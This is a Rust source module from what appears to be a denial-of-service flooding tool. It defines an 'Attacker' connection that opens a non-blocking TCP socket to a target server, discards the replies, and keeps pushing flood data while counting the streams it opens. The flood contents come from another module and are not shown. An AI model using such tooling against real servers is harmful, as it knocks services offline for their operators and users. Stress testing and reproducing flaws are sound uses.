//! A connection of an attack.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};

use crate::floods::Flood;

/// It never waits.
pub(crate) struct Attacker {
    socket: TcpStream,
    /// What is to be sent, from `sent` on.
    output: Vec<u8>,
    sent: usize,
    /// Streams opened so far.
    opened: u32,
}

/// What a step came to.
pub(crate) enum Progress {
    /// So many bytes went out.
    Sent(usize),
    /// The server said something.
    Read,
    /// Nothing can be done now.
    Blocked,
    /// The server has closed the connection.
    Closed,
}

impl Attacker {
    pub(crate) fn connect(address: SocketAddr, flood: &Flood) -> io::Result<Attacker> {
        let socket = TcpStream::connect(address)?;
        socket.set_nodelay(true)?;
        socket.set_nonblocking(true)?;
        let mut attacker = Attacker { socket, output: Vec::new(), sent: 0, opened: 0 };
        flood.begin(&mut attacker.output, &mut attacker.opened);
        Ok(attacker)
    }

    /// Drops what the server says, and sends a part of the flood.
    pub(crate) fn step(&mut self, flood: &Flood) -> Progress {
        let read = self.socket.read(&mut [0; 16 * 1024]);
        match read {
            Ok(0) => return Progress::Closed,
            Err(error) if error.kind() != ErrorKind::WouldBlock => return Progress::Closed,
            _ => {}
        }
        if self.sent == self.output.len() {
            (self.sent, self.output) = (0, std::mem::take(&mut self.output));
            self.output.clear();
            flood.go_on(&mut self.output, &mut self.opened);
        }
        if !self.wants_to_write() {
            return if read.is_ok() { Progress::Read } else { Progress::Blocked };
        }
        match self.socket.write(&self.output[self.sent..]) {
            Ok(count) => {
                self.sent += count;
                Progress::Sent(count)
            }
            Err(error) if error.kind() != ErrorKind::WouldBlock => Progress::Closed,
            Err(_) if read.is_ok() => Progress::Read,
            Err(_) => Progress::Blocked,
        }
    }

    pub(crate) fn wants_to_write(&self) -> bool {
        self.sent < self.output.len()
    }

    pub(crate) fn socket(&self) -> &TcpStream {
        &self.socket
    }
}
